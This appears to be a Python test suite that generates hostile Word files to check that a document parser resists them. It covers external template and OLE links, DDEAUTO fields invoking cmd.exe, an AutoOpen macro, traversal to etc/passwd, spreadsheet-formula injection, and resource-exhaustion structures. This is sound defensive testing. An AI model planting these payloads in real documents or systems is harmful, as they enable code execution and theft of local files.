"""Word files: references to the outside, macros, fields that call programs, absurd structure."""

from __future__ import annotations

import random

from tests.hostile.archives import repacked
from tests.hostile.case import Bait, case
from tests.read.docx_builder import R, docx, level, numbered, numbering, p, part, styled, tbl, tc, tr

A = "http://schemas.openxmlformats.org/drawingml/2006/main"
FORMULAS = ("=HYPERLINK(&quot;http://x&quot;)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "=1+1")
TABLE_HEAD = tr(tc("Orsak"), tc("Mål"), tc("Åtgärd"), tc("Vem"), tc("När"))


def related(body: str, *relations: str, **more: bytes | str) -> bytes:
    """A document with relationships given as XML."""
    data = docx(body)
    rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{"".join(relations)}'
    return repacked(data, {"word/_rels/document.xml.rels": rels + "</Relationships>", **more})


def relation(id: str, kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{id}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def field(code: str, result: str = "visat") -> str:
    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    instruction = f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>'
    return f"<w:p>{char('begin')}{instruction}{char('separate')}<w:r><w:t>{result}</w:t></w:r>{char('end')}</w:p>"


@case("word-attached-template.docx", "done", holds=("Handlingsplan",), issues=("external-reference",))
def template(bait: Bait) -> bytes:
    settings = part("settings", '<w:attachedTemplate r:id="t"/>')
    rels = (
        relation("t", "attachedTemplate", f"{bait.url}/evil.dotm"),
        relation("s", "settings", "settings.xml", external=False),
    )
    return related(p("Handlingsplan"), *rels, **{"word/settings.xml": settings})


@case("word-linked-picture.docx", "done", holds=("Handlingsplan",), issues=("external-reference", "image"))
def picture(bait: Bait) -> bytes:
    drawing = f'<w:p><w:r><w:drawing><a:blip xmlns:a="{A}" r:link="i"/></w:drawing></w:r></w:p>'
    return related(p("Handlingsplan") + drawing, relation("i", "image", f"{bait.url}/x.png"))


@case("word-linked-picture-of-a-file.docx", "done", holds=("Handlingsplan",), issues=("external-reference",))
def file_picture(bait: Bait) -> bytes:
    drawing = f'<w:p><w:r><w:drawing><a:blip xmlns:a="{A}" r:link="i"/></w:drawing></w:r></w:p>'
    return related(p("Handlingsplan") + drawing, relation("i", "image", bait.secret.as_uri()))


@case("word-ole-link.docx", "done", holds=("Handlingsplan",), issues=("external-reference",))
def ole(bait: Bait) -> bytes:
    thing = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
    thing += 'ProgID="htmlfile" r:id="o" UpdateMode="Always"/></w:object></w:r></w:p>'
    return related(p("Handlingsplan") + thing, relation("o", "oleObject", f"mhtml:{bait.url}/x.html!x-usc:{bait.url}"))


@case("word-frames.docx", "done", issues=("external-reference",))
def frames(bait: Bait) -> bytes:
    return related(
        p("Handlingsplan"), relation("f", "frame", "\\\\127.0.0.1\\share\\x"), relation("h", "header", bait.url)
    )


@case("word-alt-chunk.docx", "done", holds=("Handlingsplan",), issues=("embedded-document",))
def chunk(bait: Bait) -> bytes:
    page = f'<html><script>x</script><img src="{bait.url}/i"><iframe src="{bait.secret.as_uri()}"></iframe></html>'
    return related(
        p("Handlingsplan") + '<w:altChunk r:id="c"/><w:subDoc r:id="c"/>',
        relation("c", "aFChunk", "evil.html", external=False),
        **{"word/evil.html": page},
    )


@case("word-fields.docx", "done", holds=("Handlingsplan",), lacks=("DDEAUTO", "cmd.exe", "INCLUDETEXT"))
def fields(bait: Bait) -> bytes:
    codes = (
        r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"', f'INCLUDETEXT "{bait.secret}"',
        f'INCLUDEPICTURE "{bait.url}/x.png" \\d', f'LINK Word.Document.8 "{bait.secret}" a', "MACROBUTTON evil klicka",
        f'HYPERLINK "{bait.url}"', r'QUOTE 65 66', f'IMPORT "{bait.url}"', "DDE excel x y",
    )  # fmt: skip
    return docx(p("Handlingsplan") + "".join(field(c.replace('"', "&quot;")) for c in codes))


@case("word-relation-outside.docx", "done", holds=("Handlingsplan",))
def escape(bait: Bait) -> bytes:
    up = "../" * 20
    return related(
        p("Handlingsplan"),
        relation("a", "styles", f"{up}etc/passwd", external=False),
        relation("b", "numbering", bait.secret.as_uri(), external=False),
        relation("c", "footnotes", f"/{bait.secret}", external=False),
    )


@case("word-macros.docm", "done", holds=("Handlingsplan",), issues=("macros",))
def macros(bait: Bait) -> bytes:
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000) + f'Sub AutoOpen() Shell "touch {bait.canary}"'.encode()
    return repacked(docx(p("Handlingsplan")), {"word/vbaProject.bin": vba})


@case("word-formulas.docx", "done", holds=("=1+1", "@SUM(1)", "-2+3"))
def formulas(bait: Bait) -> bytes:
    rows = [tr(*(tc(FORMULAS[(n + k) % 5]) for k in range(5))) for n in range(5)]
    return docx(styled("Åtgärder", "Heading1") + tbl(TABLE_HEAD, *rows))


@case("word-million-empty-paragraphs.docx", "done", "too-large", group="slow")
def empty_paragraphs(bait: Bait) -> bytes:
    rng = random.Random(1)
    body = "".join(f'<w:p w:rsidR="{rng.getrandbits(32):08x}"/>' for _ in range(1_000_000))
    return docx(p("Handlingsplan") + body)


@case("word-too-many-elements.docx", "hostile")
def elements(bait: Bait) -> bytes:
    return docx("<w:p/>" * 2_100_000)


@case("word-nested-tables.docx", "too-large")
def tables(bait: Bait) -> bytes:
    # Under the depth that the XML parser takes (256 elements): our own limit must hold.
    return docx("<w:tbl><w:tr><w:tc>" * 75 + p("Plan") + "</w:tc></w:tr></w:tbl>" * 75)


@case("word-nested-controls.docx", "done", holds=("Handlingsplan",))
def controls(bait: Bait) -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 120 + p("Handlingsplan") + "</w:sdtContent></w:sdt>" * 120)


@case("word-nested-alternates.docx", "done", holds=("Handlingsplan",))
def alternates(bait: Bait) -> bytes:
    opening, closing = "<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>"
    return docx((opening * 110 + p("Handlingsplan") + closing * 110) * 50)


@case("word-grid-span.docx", "done", holds=("Ronder",))
def grid_span(bait: Bait) -> bytes:
    wide = '<w:gridSpan w:val="2147483648"/>'
    before = '<w:gridBefore w:val="99999999999999999999"/><w:gridAfter w:val="-7"/>'
    rows = (
        tr(tc("Åtgärd", wide), tc("Vem", '<w:gridSpan w:val="-5"/>')),
        tr(tc("Ronder"), tc("Polisen"), properties=before),
    )
    return docx(tbl(*rows))


@case("word-a-million-columns.docx", "done", "too-large", "limit", group="limit")
def columns(bait: Bait) -> bytes:
    wide = "".join(tc(f"c{n}", '<w:gridSpan w:val="1000"/>') for n in range(1000))
    return docx(tbl(*(tr(wide) for _ in range(60)), tr(tc("Åtgärd"))) + p("Handlingsplan"))


@case("word-merges.docx", "done", holds=("Ronder",))
def merges(bait: Bait) -> bytes:
    odd = ('<w:vMerge w:val="-1"/>', '<w:vMerge w:val="continue"/>', '<w:hMerge w:val="continue"/>', "<w:vMerge/>")
    rows = [tr(*(tc(f"{a}{b}", odd[(a * b + a) % 4]) for b in range(6))) for a in range(40)]
    return docx(tbl(*rows) + p("Ronder"))


@case("word-numbering-loop.docx", "done", holds=("Första",))
def number_loop(bait: Bait) -> bytes:
    links = "".join(
        f'<w:abstractNum w:abstractNumId="{n}"><w:numStyleLink w:val="S{1 - n}"/></w:abstractNum>' for n in (0, 1)
    )
    nums = "".join(f'<w:num w:numId="{n + 1}"><w:abstractNumId w:val="{n}"/></w:num>' for n in (0, 1))
    styles = "".join(
        f'<w:style w:type="numbering" w:styleId="S{n}"><w:pPr><w:numPr><w:numId w:val="{n + 1}"/></w:numPr></w:pPr></w:style>'
        for n in (0, 1)
    )
    parts = {"numbering": part("numbering", links + nums), "styles": part("styles", styles)}
    return docx(numbered("Första") + numbered("Andra", 2), parts=parts)


@case("word-numbers-beyond-sense.docx", "done", holds=("Punkt",))
def numbers(bait: Bait) -> bytes:
    forms = ("upperRoman", "lowerLetter", "decimal", "decimalZero", "ordinal", "cardinalText", "chicago")
    levels = [level(n, "%1.%2.%3.%4.%5.%6.%7." * 40, form, start=2_000_000_000) for n, form in enumerate(forms)]
    levels += [level(99999, "%9"), level(8, "%0%99%", start=-(2**70))]
    body = "".join(numbered(f"Punkt {n}", 1, n) for n in range(9)) + numbered("Djup", 1, 2**40)
    return docx(body, parts={"numbering": numbering(*levels)})


@case("word-styles-loop.docx", "done", holds=("Mål",))
def style_loop(bait: Bait) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/><w:link w:val="S{n}"/></w:style>'
        for n in range(3)
    )
    return docx(styled("Mål", "S0") + styled("Själv", "S9"), parts={"styles": part("styles", styles)})


@case("word-styles-chain.docx", "done", holds=("Mål",))
def style_chain(bait: Bait) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{n + 1}"/></w:style>' for n in range(20_000)
    )
    return docx(styled("Mål", "S0"), parts={"styles": part("styles", styles)})


@case("word-note-in-itself.docx", "done", holds=("Handlingsplan",))
def notes(bait: Bait) -> bytes:
    note = '<w:footnote w:id="2"><w:p><w:r><w:t>not</w:t><w:footnoteReference w:id="2"/></w:r></w:p></w:footnote>'
    body = '<w:p><w:r><w:t>Handlingsplan</w:t><w:footnoteReference w:id="2"/></w:r></w:p>'
    return docx(body, parts={"footnotes": part("footnotes", note)})


@case("word-header-is-the-document.docx", "done", holds=("Handlingsplan",))
def header(bait: Bait) -> bytes:
    section = '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr></w:pPr></w:p>'
    return related(p("Handlingsplan") + section * 500, relation("h", "header", "document.xml", external=False))


@case("word-open-fields.docx", "done", holds=("Handlingsplan",))
def open_fields(bait: Bait) -> bytes:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    body = f"<w:p>{begin * 60_000}</w:p>" + "".join(p(f"Handlingsplan {n}") for n in range(4_000))
    return docx(body)


@case("word-long-instruction.docx", "done", holds=("Handlingsplan",))
def instruction(bait: Bait) -> bytes:
    rng = random.Random(2)
    code = "".join(f"<w:instrText>{rng.getrandbits(400):x}</w:instrText>" for _ in range(20_000))
    body = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/>{code}</w:r></w:p>'
    return docx(body + "".join(p(f"Handlingsplan {n}") for n in range(4_000)))


@case("word-one-long-word.docx", "done", "too-large", group="slow")
def long_word(bait: Bait) -> bytes:
    rng = random.Random(3)
    letters = "".join(rng.choices("abcdefghijklmnopqrstuvwxyzåäö", k=3_000_000))
    return docx(p("Handlingsplan") + p(letters))


@case("word-boxes-in-boxes.docx", "done", holds=("Handlingsplan",))
def boxes(bait: Bait) -> bytes:
    opening, closing = "<w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>"
    return docx(opening * 50 + p("Handlingsplan") + closing * 50)


@case("word-odd-symbols.docx", "done", holds=("Handlingsplan",))
def symbols(bait: Bait) -> bytes:
    codes = ("D800", "0000", "FFFFFFFFFF", "-1", "zz", "110000", "F0A7", "202E")
    signs = "".join(f'<w:sym w:char="{c}" w:font="Wingdings"/>' for c in codes)
    return docx(p("Handlingsplan") + f"<w:p><w:r>{signs}</w:r></w:p>")


@case("word-diagram-is-itself.docx", "done", holds=("Handlingsplan",))
def diagram(bait: Bait) -> bytes:
    dgm = "http://schemas.openxmlformats.org/drawingml/2006/diagram"
    drawing = f'<w:p><w:r><w:drawing><d:relIds xmlns:d="{dgm}" r:dm="d"/></w:drawing></w:r></w:p>'
    return related(p("Handlingsplan") + drawing * 100, relation("d", "diagramData", "document.xml", external=False))


@case("word-odd-properties.docx", "done", holds=("Handlingsplan",))
def properties(bait: Bait) -> bytes:
    core = "<cp><title>=cmd|'/C calc'!A0</title><created>99999-99-99</created><creator>&#x202e;</creator></cp>"
    rels = f"""<Relationships><Relationship Id="d" Type="{R}/officeDocument" Target="word/document.xml"/><Relationship Id="c"
     Type="http://x/metadata/core-properties" Target="core.xml"/></Relationships>"""
    return repacked(docx(p("Handlingsplan")), {"core.xml": core, "_rels/.rels": rels})
